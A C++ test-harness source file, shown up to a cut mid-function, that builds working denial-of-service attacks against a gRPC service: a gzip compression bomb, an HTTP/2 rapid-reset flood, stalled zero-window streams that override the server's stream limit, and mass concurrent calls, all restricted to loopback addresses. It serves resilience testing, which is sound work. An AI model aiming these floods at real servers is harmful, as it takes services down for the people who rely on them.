#include "tests/testing/grpc_attacks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <utility>

#include "absl/status/status.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_join.h"
#include "absl/strings/string_view.h"
#include "absl/time/clock.h"
#include "grpcpp/channel.h"
#include "grpcpp/client_context.h"
#include "grpcpp/completion_queue.h"
#include "grpcpp/support/async_unary_call.h"
#include "imgw/v1/msg_read.grpc.pb.h"
#include "tests/testing/grpc_client.h"
#include "tests/testing/h2_frames.h"

namespace imgw::testing::attacks {
namespace {

constexpr char kSetMsgRead[] = "/imgw.v1.MsgReadService/SetMsgRead";
constexpr char kBatchSetMsgRead[] = "/imgw.v1.MsgReadService/BatchSetMsgRead";
constexpr char kAttacker[] = "attacker";
constexpr int64_t kReadTime = 1700000000;
// Frame types and flags that h2_frames.h does not name.
constexpr uint8_t kPing = 0x6;
constexpr uint8_t kWindowUpdate = 0x8;
constexpr uint8_t kAck = 0x1;
constexpr uint16_t kSettingsMaxConcurrentStreams = 0x3;
// What a connection may keep queued for the socket before the session is asked for more.
constexpr size_t kMaxOutBuffer = 1 << 20;
// How often a poll loop looks at the clock and its stop condition.
constexpr absl::Duration kPollSlice = absl::Milliseconds(20);
// Connections the rapid-reset attack opens at most (a new one each time the server closes the
// last): enough for all its streams when each connection gets a few hundred before it is closed.
constexpr int kMaxRapidResetConnections = 2000;

// ---------------------------------------------------------------------------------------------
// Sockets.

// `address` as a loopback socket address: "127.x.y.z:port", "[::1]:port" or "localhost:port".
absl::StatusOr<sockaddr_storage> LoopbackAddress(const std::string& address, socklen_t* length) {
  const size_t colon = address.rfind(':');
  int port = 0;
  if (colon == std::string::npos || !absl::SimpleAtoi(address.substr(colon + 1), &port) ||
      port <= 0 || port > 65535) {
    return absl::InvalidArgumentError(absl::StrCat("not host:port: ", address));
  }
  std::string host = address.substr(0, colon);
  if (host.size() >= 2 && host.front() == '[' && host.back() == ']') {
    host = host.substr(1, host.size() - 2);
  }
  if (host == "localhost") host = "127.0.0.1";
  sockaddr_storage storage{};
  auto* v4 = reinterpret_cast<sockaddr_in*>(&storage);
  auto* v6 = reinterpret_cast<sockaddr_in6*>(&storage);
  if (inet_pton(AF_INET, host.c_str(), &v4->sin_addr) == 1) {
    if ((ntohl(v4->sin_addr.s_addr) >> 24) != 127) {
      return absl::InvalidArgumentError(absl::StrCat("not a loopback address: ", address));
    }
    v4->sin_family = AF_INET;
    v4->sin_port = htons(static_cast<uint16_t>(port));
    *length = sizeof(sockaddr_in);
    return storage;
  }
  if (inet_pton(AF_INET6, host.c_str(), &v6->sin6_addr) == 1) {
    if (!IN6_IS_ADDR_LOOPBACK(&v6->sin6_addr)) {
      return absl::InvalidArgumentError(absl::StrCat("not a loopback address: ", address));
    }
    v6->sin6_family = AF_INET6;
    v6->sin6_port = htons(static_cast<uint16_t>(port));
    *length = sizeof(sockaddr_in6);
    return storage;
  }
  return absl::InvalidArgumentError(absl::StrCat("not a loopback address: ", address));
}

// A non-blocking TCP connection to the loopback `address`, with Nagle off.
absl::StatusOr<int> ConnectLoopback(const std::string& address) {
  socklen_t length = 0;
  absl::StatusOr<sockaddr_storage> addr = LoopbackAddress(address, &length);
  if (!addr.ok()) return addr.status();
  const int fd = socket(addr->ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return absl::InternalError(absl::StrCat("socket: ", std::strerror(errno)));
  // Loopback connects complete or fail at once; blocking is fine here.
  if (connect(fd, reinterpret_cast<const sockaddr*>(&*addr), length) != 0) {
    const int error = errno;
    close(fd);
    return absl::UnavailableError(absl::StrCat("connect ", address, ": ", std::strerror(error)));
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
  return fd;
}

// Waits up to `timeout` for `fd` to become readable (and writable, when `want_write`).
// Returns poll's revents, 0 on timeout.
short PollFd(int fd, bool want_write, absl::Duration timeout) {
  pollfd p{fd, static_cast<short>(POLLIN | (want_write ? POLLOUT : 0)), 0};
  const int ms = static_cast<int>(
      std::max<int64_t>(0, absl::ToInt64Milliseconds(std::min(timeout, kPollSlice))));
  return poll(&p, 1, ms) > 0 ? p.revents : 0;
}

// ---------------------------------------------------------------------------------------------
// gRPC framing.

// One gRPC length-prefixed message.
std::string GrpcFrame(const std::string& message, bool compressed) {
  return std::string(1, compressed ? '\1' : '\0') +
         h2::Uint32(static_cast<uint32_t>(message.size())) + message;
}

// grpc-message is percent-encoded (gRPC's PROTOCOL-HTTP2.md).
std::string PercentDecode(absl::string_view in) {
  std::string out;
  for (size_t i = 0; i < in.size(); ++i) {
    int value = 0;
    if (in[i] == '%' && i + 2 < in.size() && absl::SimpleHexAtoi(in.substr(i + 1, 2), &value)) {
      out.push_back(static_cast<char>(value));
      i += 2;
    } else {
      out.push_back(in[i]);
    }
  }
  return out;
}

v1::SetMsgReadRequest Item(const std::string& tag, int64_t n) {
  v1::SetMsgReadRequest request;
  request.set_report_account(absl::StrCat("r", tag, "_", n));
  request.set_peer_account(absl::StrCat("p", tag, "_", n));
  request.set_msg_read_time(kReadTime);
  return request;
}

// ---------------------------------------------------------------------------------------------
// An HTTP/2 client connection on nghttp2 (plaintext, prior knowledge), driven by Pump() from
// the one thread that owns it.

struct H2Options {
  // SETTINGS_INITIAL_WINDOW_SIZE to announce; the library default (65535) when unset.
  std::optional<uint32_t> initial_window_size;
  // Never send WINDOW_UPDATE, for the connection or a stream.
  bool no_window_update = false;
  // Behave as if the server allowed unlimited concurrent streams, whatever its SETTINGS say.
  bool ignore_peer_max_streams = false;
};

class H2Connection final {
 public:
  static absl::StatusOr<std::unique_ptr<H2Connection>> Connect(const std::string& address,
                                                               const H2Options& options) {
    absl::StatusOr<int> fd = ConnectLoopback(address);
    if (!fd.ok()) return fd.status();
    auto connection = std::unique_ptr<H2Connection>(new H2Connection(*fd, address, options));
    if (absl::Status status = connection->Init(); !status.ok()) return status;
    return connection;
  }

  H2Connection(const H2Connection&) = delete;
  H2Connection& operator=(const H2Connection&) = delete;
  ~H2Connection() {
    if (session_ != nullptr) nghttp2_session_del(session_);
    close(fd_);
  }

  // Queues a gRPC POST of `path` with `extra_headers` and the request body `body` (owned by
  // the stream until written). Returns the stream's index in streams(), or an error.
  absl::StatusOr<size_t> Submit(const std::string& path,
                                const std::vector<std::pair<std::string, std::string>>& extra,
                                std::string body) {
    std::vector<std::pair<std::string, std::string>> headers = {
        {":method", "POST"},
        {":scheme", "http"},
        {":path", path},
        {":authority", address_},
        {"content-type", "application/grpc"},
        {"te", "trailers"},
        {"user-agent", "imgw-attack"},
        {"imgw-caller", kAttacker}};
    headers.insert(headers.end(), extra.begin(), extra.end());
    std::vector<nghttp2_nv> nva;
    for (auto& [name, value] : headers) {
      nva.push_back({reinterpret_cast<uint8_t*>(name.data()),
                     reinterpret_cast<uint8_t*>(value.data()), name.size(), value.size(),
                     NGHTTP2_NV_FLAG_NONE});
    }
    Stream& stream = streams_.emplace_back();
    stream.body = std::move(body);
    stream.started = absl::Now();
    nghttp2_data_provider provider{};
    provider.source.ptr = &stream;
    provider.read_callback = &H2Connection::ReadBody;
    const int32_t id =
        nghttp2_submit_request(session_, nullptr, nva.data(), nva.size(), &provider, &stream);
    if (id < 0) {
      streams_.pop_back();
      return absl::ResourceExhaustedError(
          absl::StrCat("nghttp2_submit_request: ", nghttp2_strerror(id)));
    }
    stream.outcome.stream_id = static_cast<uint32_t>(id);
    return streams_.size() - 1;
  }

  // Writes what the session has to send and reads what the server sends, until `until`, the
  // connection ends, or `done()` holds (checked every few milliseconds).
  void Pump(absl::Time until, const std::function<bool()>& done = nullptr) {
    while (!closed_) {
      if (done && done()) return;
      const absl::Time now = absl::Now();
      if (now >= until) return;
      while (out_.size() < kMaxOutBuffer) {
        const uint8_t* data = nullptr;
        const ssize_t n = nghttp2_session_mem_send(session_, &data);
        if (n < 0) return Close();
        if (n == 0) break;
        out_.append(reinterpret_cast<const char*>(data), static_cast<size_t>(n));
      }
      if (!WriteOut()) return Close();
      if (out_.empty() && !nghttp2_session_want_read(session_) &&
          !nghttp2_session_want_write(session_)) {
        return Close();  // The session is over (a GOAWAY was received and nothing is left).
      }
      const short events = PollFd(fd_, !out_.empty(), until - now);
      if ((events & (POLLIN | POLLHUP | POLLERR)) != 0 && !ReadIn()) return Close();
    }
  }

  bool closed() const { return closed_; }
  int goaways() const { return goaways_; }
  // Every submitted stream, in submission order.
  size_t stream_count() const { return streams_.size(); }
  const StreamOutcome& outcome(size_t i) const { return streams_[i].outcome; }
  bool ended(size_t i) const { return streams_[i].outcome.end != StreamEnd::kPending; }

 private:
  struct Stream {
    StreamOutcome outcome;
    std::string body;
    size_t offset = 0;
    int header_frames = 0;
    absl::Time started;
  };

  H2Connection(int fd, std::string address, H2Options options)
      : fd_(fd), address_(std::move(address)), options_(options) {}

  absl::Status Init() {
    nghttp2_session_callbacks* callbacks = nullptr;
    nghttp2_session_callbacks_new(&callbacks);
    nghttp2_session_callbacks_set_on_header_callback(callbacks, &H2Connection::OnHeader);
    nghttp2_session_callbacks_set_on_frame_recv_callback(callbacks, &H2Connection::OnFrameRecv);
    nghttp2_session_callbacks_set_on_frame_send_callback(callbacks, &H2Connection::OnFrameSend);
    nghttp2_session_callbacks_set_on_stream_close_callback(callbacks, &H2Connection::OnStreamClose);
    nghttp2_session_callbacks_set_on_data_chunk_recv_callback(callbacks, &H2Connection::OnData);
    nghttp2_option* option = nullptr;
    nghttp2_option_new(&option);
    if (options_.no_window_update) nghttp2_option_set_no_auto_window_update(option, 1);
    if (options_.ignore_peer_max_streams) {
      nghttp2_option_set_peer_max_concurrent_streams(option, 0xffffffffu);
    }
    const int rv = nghttp2_session_client_new2(&session_, callbacks, this, option);
    nghttp2_option_del(option);
    nghttp2_session_callbacks_del(callbacks);
    if (rv != 0) return absl::InternalError(nghttp2_strerror(rv));
    std::vector<nghttp2_settings_entry> settings = {{NGHTTP2_SETTINGS_ENABLE_PUSH, 0}};
    if (options_.initial_window_size.has_value()) {
      settings.push_back({NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, *options_.initial_window_size});
    }
    const int sv =
        nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, settings.data(), settings.size());
    if (sv != 0) return absl::InternalError(nghttp2_strerror(sv));
    return absl::OkStatus();
  }

  bool WriteOut() {
    while (!out_.empty()) {
      const ssize_t n = send(fd_, out_.data(), out_.size(), MSG_NOSIGNAL);
      if (n > 0) {
        out_.erase(0, static_cast<size_t>(n));
        continue;
      }
      return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR);
    }
    return true;
  }

  // Reads what the socket has (a bounded amount) into the session. False when it ended.
  bool ReadIn() {
    char buffer[64 * 1024];
    for (int i = 0; i < 16; ++i) {
      const ssize_t n = recv(fd_, buffer, sizeof(buffer), 0);
      if (n == 0) return false;
      if (n < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR;
      in_.append(buffer, static_cast<size_t>(n));
      if (!FeedFrames()) return false;
    }
    return true;
  }

  // Hands every complete frame in in_ to the session, first lifting the server's
  // SETTINGS_MAX_CONCURRENT_STREAMS when told to ignore it.
  bool FeedFrames() {
    size_t pos = 0;
    while (in_.size() - pos >= 9) {
      const auto* p = reinterpret_cast<uint8_t*>(in_.data() + pos);
      const size_t length = (size_t{p[0]} << 16) | (size_t{p[1]} << 8) | p[2];
      if (in_.size() - pos < 9 + length) break;
      if (options_.ignore_peer_max_streams && p[3] == h2::kSettings && (p[4] & kAck) == 0) {
        for (size_t e = 9; e + 6 <= 9 + length; e += 6) {
          if (((p[e] << 8) | p[e + 1]) == kSettingsMaxConcurrentStreams) {
            std::memset(in_.data() + pos + e + 2, 0xff, 4);
          }
        }
      }
      pos += 9 + length;
    }
    if (pos == 0) return true;
    const ssize_t n =
        nghttp2_session_mem_recv(session_, reinterpret_cast<const uint8_t*>(in_.data()), pos);
    in_.erase(0, pos);
    return n >= 0;
  }

  void Close() {
    if (closed_) return;
    closed_ = true;
    const absl::Time now = absl::Now();
    for (Stream& stream : streams_) {
      if (stream.outcome.end == StreamEnd::kPending) {
        stream.outcome.end = StreamEnd::kClosed;
        stream.outcome.latency = now - stream.started;
      }
    }
  }

  static Stream* StreamOf(nghttp2_session* session, int32_t id) {
    return static_cast<Stream*>(nghttp2_session_get_stream_user_data(session, id));
  }

  static void End(Stream& stream, StreamEnd end) {
    if (stream.outcome.end != StreamEnd::kPending) return;
    stream.outcome.end = end;
    stream.outcome.latency = absl::Now() - stream.started;
  }

  static ssize_t ReadBody(nghttp2_session*, int32_t, uint8_t* buf, size_t length,
                          uint32_t* data_flags, nghttp2_data_source* source, void*) {
    auto& stream = *static_cast<Stream*>(source->ptr);
    const size_t n = std::min(length, stream.body.size() - stream.offset);
    std::memcpy(buf, stream.body.data() + stream.offset, n);
    stream.offset += n;
    if (stream.offset == stream.body.size()) *data_flags |= NGHTTP2_DATA_FLAG_EOF;
    return static_cast<ssize_t>(n);
  }

  static int OnHeader(nghttp2_session* session, const nghttp2_frame* frame, const uint8_t* name,
                      size_t namelen, const uint8_t* value, size_t valuelen, uint8_t, void*) {
    Stream* stream = StreamOf(session, frame->hd.stream_id);
    if (stream == nullptr) return 0;
    const absl::string_view n(reinterpret_cast<const char*>(name), namelen);
    const absl::string_view v(reinterpret_cast<const char*>(value), valuelen);
    int number = 0;
    if (n == ":status" && absl::SimpleAtoi(v, &number)) {
      stream->outcome.http_status = number;
    } else if (n == "grpc-status" && absl::SimpleAtoi(v, &number)) {
      stream->outcome.grpc_status = number;
    } else if (n == "grpc-message") {
      stream->outcome.grpc_message = PercentDecode(v);
    }
    return 0;
  }

  static int OnFrameRecv(nghttp2_session* session, const nghttp2_frame* frame, void* user) {
    auto& self = *static_cast<H2Connection*>(user);
    if (frame->hd.type == NGHTTP2_GOAWAY) {
      ++self.goaways_;
      return 0;
    }
    Stream* stream = StreamOf(session, frame->hd.stream_id);
    if (stream == nullptr) return 0;
    if (frame->hd.type == NGHTTP2_HEADERS) {
      ++stream->header_frames;
      if ((frame->hd.flags & NGHTTP2_FLAG_END_STREAM) != 0) {
        stream->outcome.trailers_only = stream->header_frames == 1;
        End(*stream, StreamEnd::kAnswer);
      }
    } else if (frame->hd.type == NGHTTP2_RST_STREAM) {
      stream->outcome.rst_error_code = frame->rst_stream.error_code;
      End(*stream, StreamEnd::kReset);
    }
    return 0;
  }

  static int OnFrameSend(nghttp2_session* session, const nghttp2_frame* frame, void*) {
    if ((frame->hd.type != NGHTTP2_DATA && frame->hd.type != NGHTTP2_HEADERS) ||
        (frame->hd.flags & NGHTTP2_FLAG_END_STREAM) == 0) {
      return 0;
    }
    if (Stream* stream = StreamOf(session, frame->hd.stream_id); stream != nullptr) {
      stream->outcome.request_sent = true;
      std::string().swap(stream->body);  // Written: free it.
      stream->offset = 0;
    }
    return 0;
  }

  // Also called for the streams above a GOAWAY's last stream id (REFUSED_STREAM) and for
  // streams the library resets itself.
  static int OnStreamClose(nghttp2_session* session, int32_t id, uint32_t error_code, void*) {
    if (Stream* stream = StreamOf(session, id); stream != nullptr) {
      if (stream->outcome.end == StreamEnd::kPending) stream->outcome.rst_error_code = error_code;
      End(*stream, StreamEnd::kReset);
    }
    return 0;
  }

  static int OnData(nghttp2_session* session, uint8_t, int32_t id, const uint8_t*, size_t len,
                    void*) {
    if (Stream* stream = StreamOf(session, id); stream != nullptr) {
      stream->outcome.data_bytes += len;
    }
    return 0;
  }

  const int fd_;
  const std::string address_;
  const H2Options options_;
  nghttp2_session* session_ = nullptr;
  std::deque<Stream> streams_;  // A deque: the session holds pointers to its elements.
  std::string out_;
  std::string in_;
  bool closed_ = false;
  int goaways_ = 0;
};

// ---------------------------------------------------------------------------------------------
// Raw frames for rapid reset.

// One raw connection: what has been queued and written, the connection's send window, and the
// frames read so far.
class RawConnection final {
 public:
  explicit RawConnection(int fd) : fd_(fd) {}
  RawConnection(const RawConnection&) = delete;
  RawConnection& operator=(const RawConnection&) = delete;
  ~RawConnection() { close(fd_); }

  void Queue(const std::string& bytes) {
    out_ += bytes;
    queued_total_ += static_cast<int64_t>(bytes.size());
  }
  // Bytes waiting for the socket; bytes ever queued; bytes ever written.
  size_t queued() const { return out_.size(); }
  int64_t queued_total() const { return queued_total_; }
  int64_t written() const { return written_; }
  int64_t window() const { return window_; }
  void Spend(int64_t bytes) { window_ -= bytes; }
  bool closed() const { return closed_; }

  // One round of I/O: writes what it can, waits up to `timeout` for the socket, reads what
  // came and answers SETTINGS and PING. Counts into `result`.
  void Step(absl::Duration timeout, RapidResetResult& result) {
    if (!Write()) {
      closed_ = true;
      return;
    }
    const short events = PollFd(fd_, !out_.empty(), timeout);
    if ((events & (POLLIN | POLLHUP | POLLERR)) == 0) return;
    char buffer[64 * 1024];
    for (int i = 0; i < 16 && !closed_; ++i) {
      const ssize_t n = recv(fd_, buffer, sizeof(buffer), 0);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
        closed_ = true;
      }
      if (n <= 0) break;
      result.bytes_received += n;
      in_.append(buffer, static_cast<size_t>(n));
      Parse(result);
    }
  }

 private:
  bool Write() {
    while (!out_.empty()) {
      const ssize_t n = send(fd_, out_.data(), out_.size(), MSG_NOSIGNAL);
      if (n > 0) {
        out_.erase(0, static_cast<size_t>(n));
        written_ += n;
        continue;
      }
      return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR);
    }
    return true;
  }

  void Parse(RapidResetResult& result) {
    size_t pos = 0;
    while (in_.size() - pos >= 9) {
      const auto* p = reinterpret_cast<const uint8_t*>(in_.data() + pos);
      const size_t length = (size_t{p[0]} << 16) | (size_t{p[1]} << 8) | p[2];
      if (in_.size() - pos < 9 + length) break;
      const uint8_t type = p[3];
      const uint8_t flags = p[4];
      const uint32_t stream =
          (uint32_t{p[5]} & 0x7f) << 24 | uint32_t{p[6]} << 16 | uint32_t{p[7]} << 8 | p[8];
      const std::string payload = in_.substr(pos + 9, length);
      ++result.frames_received;
      ++result.frames_by_type[type];
      if (type == h2::kSettings && (flags & kAck) == 0) {
        Queue(h2::Serialize(h2::kSettings, kAck, 0, ""));
      } else if (type == kPing && (flags & kAck) == 0) {
        Queue(h2::Serialize(kPing, kAck, 0, payload));
      } else if (type == kWindowUpdate && stream == 0 && length == 4) {
        window_ += static_cast<int64_t>(ReadUint32(payload, 0) & 0x7fffffffu);
      } else if (type == h2::kGoaway) {
        ++result.goaways;
        if (length >= 8) result.last_goaway_error = ReadUint32(payload, 4);
        closed_ = true;  // No new stream will be accepted: time for a new connection.
      }
      pos += 9 + length;
    }
    in_.erase(0, pos);
  }

  static uint32_t ReadUint32(const std::string& s, size_t at) {
    const auto* p = reinterpret_cast<const uint8_t*>(s.data() + at);
    return uint32_t{p[0]} << 24 | uint32_t{p[1]} << 16 | uint32_t{p[2]} << 8 | p[3];
  }

  const int fd_;
  std::string out_;
  std::string in_;
  int64_t queued_total_ = 0;
  int64_t written_ = 0;
  int64_t window_ = 65535;  // The connection's initial send window (RFC 9113 6.9.2).
  bool closed_ = false;
};

}  // namespace

// ---------------------------------------------------------------------------------------------

std::string Describe(const StreamOutcome& o) {
  switch (o.end) {
    case StreamEnd::kPending:
      return absl::StrCat("pending", o.http_status != 0 ? " (headers received)" : "",
                          o.request_sent ? "" : " (request not all sent)");
    case StreamEnd::kAnswer:
      return absl::StrCat("grpc-status ", o.grpc_status.has_value() ? *o.grpc_status : -1,
                          o.trailers_only ? " (trailers-only)" : "", " \"", o.grpc_message,
                          "\" after ", absl::FormatDuration(o.latency));
    case StreamEnd::kReset:
      return absl::StrCat("RST_STREAM error ", o.rst_error_code, " after ",
                          absl::FormatDuration(o.latency));
    case StreamEnd::kClosed:
      return absl::StrCat("connection closed after ", absl::FormatDuration(o.latency),
                          o.request_sent ? "" : " (request not all sent)");
  }
  return "?";
}

const std::string& GzipZeros(size_t expanded_bytes) {
  static std::mutex mu;
  static auto* cache = new std::map<size_t, std::unique_ptr<const std::string>>;
  std::lock_guard<std::mutex> lock(mu);
  auto& slot = (*cache)[expanded_bytes];
  if (slot != nullptr) return *slot;

  constexpr size_t kChunk = 1 << 20;
  const std::string zeros(kChunk, '\0');
  z_stream z{};
  // Raw deflate; the gzip header and trailer are written here, since the chunks that repeat
  // are never shown to zlib (it could not compute their CRC).
  deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
  auto deflate_some = [&z](const char* data, size_t size, int flush) {
    std::string out;
    z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data));
    z.avail_in = static_cast<uInt>(size);
    char buffer[64 * 1024];
    do {
      z.next_out = reinterpret_cast<Bytef*>(buffer);
      z.avail_out = sizeof(buffer);
      deflate(&z, flush);
      out.append(buffer, sizeof(buffer) - z.avail_out);
    } while (z.avail_out == 0 || z.avail_in > 0);
    return out;
  };
  auto out = std::make_unique<std::string>("\x1f\x8b\x08\0\0\0\0\0\x02\x03", 10);
  uLong crc = crc32(0, nullptr, 0);
  const uLong chunk_crc = crc32(0, reinterpret_cast<const Bytef*>(zeros.data()), kChunk);
  // After a full flush the compressor is back where it started (empty window, byte-aligned),
  // so equal input gives equal output: once two chunks in a row compressed to the same bytes,
  // those bytes stand for every further chunk.
  std::string previous;
  bool repeats = false;
  size_t left = expanded_bytes;
  for (; left >= kChunk; left -= kChunk) {
    if (!repeats) {
      std::string block = deflate_some(zeros.data(), kChunk, Z_FULL_FLUSH);
      repeats = block == previous;
      previous = std::move(block);
    }
    *out += previous;
    crc = crc32_combine(crc, chunk_crc, kChunk);
  }
  *out += deflate_some(zeros.data(), left, Z_FINISH);
  crc = crc32(crc, reinterpret_cast<const Bytef*>(zeros.data()), static_cast<uInt>(left));
  deflateEnd(&z);
  const uint32_t isize = static_cast<uint32_t>(expanded_bytes);  // Modulo 2^32 (RFC 1952).
  for (uint32_t v : {static_cast<uint32_t>(crc), isize}) {
    for (int b = 0; b < 4; ++b) out->push_back(static_cast<char>(v >> (8 * b)));
  }
  slot = std::move(out);
  return *slot;
}

absl::StatusOr<CompressionBombResult> CompressionBomb(const std::string& address,
                                                      size_t expanded_bytes, int repeats,
                                                      absl::Duration timeout) {
  const absl::Time start = absl::Now();
  const absl::Time until = start + timeout;
  CompressionBombResult result;
  result.expanded_bytes = expanded_bytes;
  const std::string& payload = GzipZeros(expanded_bytes);
  result.compressed_bytes = payload.size();
  const std::string body = GrpcFrame(payload, /*compressed=*/true);
  std::unique_ptr<H2Connection> connection;
  for (int i = 0; i < repeats && absl::Now() < until; ++i) {
    if (connection == nullptr || connection->closed()) {
      absl::StatusOr<std::unique_ptr<H2Connection>> c = H2Connection::Connect(address, {});
      if (!c.ok()) {
        if (result.connections == 0) return c.status();
        break;
      }
      connection = *std::move(c);
      ++result.connections;
    }
    absl::StatusOr<size_t> stream = connection->Submit(
        kSetMsgRead, {{"grpc-encoding", "gzip"}, {"grpc-accept-encoding", "gzip"}}, body);
    if (!stream.ok()) break;
    H2Connection& c = *connection;
    c.Pump(until, [&c, s = *stream] { return c.ended(s); });
    StreamOutcome outcome = c.outcome(*stream);
    result.streams.push_back(outcome);
  }
  result.elapsed = absl::Now() - start;
  return result;
}

absl::StatusOr<UnreadStreamsResult> UnreadStreams(const std::string& address, int connections,
                                                  int streams_per_connection, int items_per_batch,
                                                  absl::Duration hold) {
  const absl::Time start = absl::Now();
  UnreadStreamsResult result;
  H2Options options;
  options.initial_window_size = 0;
  options.no_window_update = true;
  options.ignore_peer_max_streams = true;
  std::vector<std::unique_ptr<H2Connection>> open;
  for (int c = 0; c < connections; ++c) {
    absl::StatusOr<std::unique_ptr<H2Connection>> connection =
        H2Connection::Connect(address, options);
    if (!connection.ok()) {
      if (open.empty()) return connection.status();
      break;
    }
    for (int s = 0; s < streams_per_connection; ++s) {
      v1::BatchSetMsgReadRequest batch;
      for (int i = 0; i < items_per_batch; ++i) {
        *batch.add_items() = Item(absl::StrCat(c, "_", s), i);
      }
      std::string message;
      batch.SerializeToString(&message);
      if (!(*connection)->Submit(kBatchSetMsgRead, {}, GrpcFrame(message, false)).ok()) break;
      ++result.streams;
    }
    open.push_back(*std::move(connection));
    ++result.connections;
  }
  // Every connection gets its turn every few milliseconds until the hold is over.
  const absl::Time until = start + hold;
  while (absl::Now() < until) {
    bool all_closed = true;
    for (auto& connection : open) {
      connection->Pump(std::min(until, absl::Now() + absl::Milliseconds(5)));
      all_closed = all_closed && connection->closed();
    }
    if (all_closed) break;
  }
  for (auto& connection : open) {
    result.goaways += connection->goaways();
    for (size_t i = 0; i < connection->stream_count(); ++i) {
      const StreamOutcome& o = connection->outcome(i);
      result.requests_sent += o.request_sent ? 1 : 0;
      switch (o.end) {
        case StreamEnd::kPending:
          ++result.pending;
          result.pending_with_headers += o.http_status != 0 ? 1 : 0;
          break;
        case StreamEnd::kAnswer:
          ++result.answered;
          ++result.grpc_status[o.grpc_status.value_or(-1)];
          result.answer_latencies.push_back(o.latency);
          break;
        case StreamEnd::kReset:
          ++(o.rst_error_code == h2::kRefusedStream ? result.refused_stream : result.reset_other);
          ++result.resets[o.rst_error_code];
          result.answer_latencies.push_back(o.latency);
          break;
        case StreamEnd::kClosed:
          ++result.closed;
          break;
      }
    }
  }
  std::sort(result.answer_latencies.begin(), result.answer_latencies.end());
  open.clear();  // Closes the connections.
  result.elapsed = absl::Now() - start;
  return result;
}

absl::StatusOr<RapidResetResult> RapidReset(const std::string& address, int64_t iterations,
                                            absl::Duration timeout) {
  const absl::Time start = absl::Now();
  const absl::Time until = start + timeout;
  RapidResetResult result;
  std::string message;
  Item("rapid", 0).SerializeToString(&message);
  const std::string data = GrpcFrame(message, false);
  const std::string block = h2::Literal(":method", "POST") + h2::Literal(":scheme", "http") +
                            h2::Literal(":path", kSetMsgRead) + h2::Literal(":authority", address) +
                            h2::Literal("content-type", "application/grpc") +
                            h2::Literal("te", "trailers") + h2::Literal("imgw-caller", kAttacker);
  std::unique_ptr<RawConnection> connection;
  uint32_t next_stream = 1;
  // Where each queued stream's last byte ends in the connection's bytes: a stream counts once
  // written.
  std::deque<int64_t> stream_ends;
  int64_t queued_streams = 0;
  while (result.streams < iterations) {
    if (absl::Now() >= until) {
      result.timed_out = true;
      break;
    }
    if (connection == nullptr || connection->closed() || next_stream > 0x7ffffff0u) {
      if (result.connections > kMaxRapidResetConnections) break;
      absl::StatusOr<int> fd = ConnectLoopback(address);
      if (!fd.ok()) {
        if (result.connections == 0) return fd.status();
        absl::SleepFor(absl::Milliseconds(50));  // The server may be restarting its listener.
        continue;
      }
      connection = std::make_unique<RawConnection>(*fd);
      ++result.connections;
      connection->Queue(std::string(h2::kPreface) + h2::Serialize(h2::kSettings, 0, 0, ""));
      next_stream = 1;
      queued_streams = result.streams;  // Queued and never written: lost with the connection.
      stream_ends.clear();
    }
    // Keep about 64 KiB queued, as far as the connection window allows the DATA frames.
    while (connection->queued() < 64 * 1024 && queued_streams < iterations &&
           connection->window() >= static_cast<int64_t>(data.size())) {
      const std::string frames =
          h2::Serialize(h2::kHeaders, h2::kEndHeaders, next_stream, block) +
          h2::Serialize(h2::kData, 0, next_stream, data) +
          h2::Serialize(h2::kRstStream, 0, next_stream, h2::Uint32(h2::kCancel));
      connection->Queue(frames);
      connection->Spend(static_cast<int64_t>(data.size()));
      stream_ends.push_back(connection->queued_total());
      ++queued_streams;
      next_stream += 2;
    }
    connection->Step(std::min(until - absl::Now(), absl::Milliseconds(50)), result);
    while (!stream_ends.empty() && stream_ends.front() <= connection->written()) {
      stream_ends.pop_front();
      ++result.streams;
    }
  }
  // Reads what the server still sends for a moment, so that the last resets are not lost in a
  // connection closed with unread data (the kernel would answer it with TCP RST).
  const absl::Time drain_until = std::min(until, absl::Now() + absl::Milliseconds(200));
  while (connection != nullptr && !connection->closed() && absl::Now() < drain_until) {
    connection->Step(drain_until - absl::Now(), result);
  }
  result.elapsed = absl::Now() - start;
  return result;
}

ManyCallsResult ManyCalls(const std::string& address, int calls, absl::Duration deadline,
                          int channels) {
  struct Call {
    grpc::ClientContext context;
    v1::SetMsgReadRequest request;
    v1::SetMsgReadResponse response;
    grpc::Status status;
    absl::Time started;
    std::unique_ptr<grpc::ClientAsyncResponseReader<v1::SetMsgReadResponse>> reader;
  };
  ManyCallsResult result;
  result.calls = calls;
  std::vector<std::unique_ptr<v1::MsgReadService::Stub>> stubs;
  for (int i = 0; i < std::max(1, channels); ++i) stubs.push_back(NewStub(address));
  grpc::CompletionQueue cq;
  std::vector<std::unique_ptr<Call>> all;
  all.reserve(static_cast<size_t>(calls));
  const absl::Time start = absl::Now();
  for (int i = 0; i < calls; ++i) {
    auto call = std::make_unique<Call>();
    call->request = Item("many", i);
    call->context.AddMetadata("imgw-caller", kAttacker);
    call->started = absl::Now();
    call->context.set_deadline(absl::ToChronoTime(call->started + deadline));
    call->reader = stubs[i % stubs.size()]->AsyncSetMsgRead(&call->context, call->request, &cq);
    call->reader->Finish(&call->response, &call->status, call.get());
    all.push_back(std::move(call));
  }
  result.started_in = absl::Now() - start;
  // Every call has a deadline, so every tag comes back; the bound is for a broken runtime, and
  // then the calls are cancelled (their tags still come back).
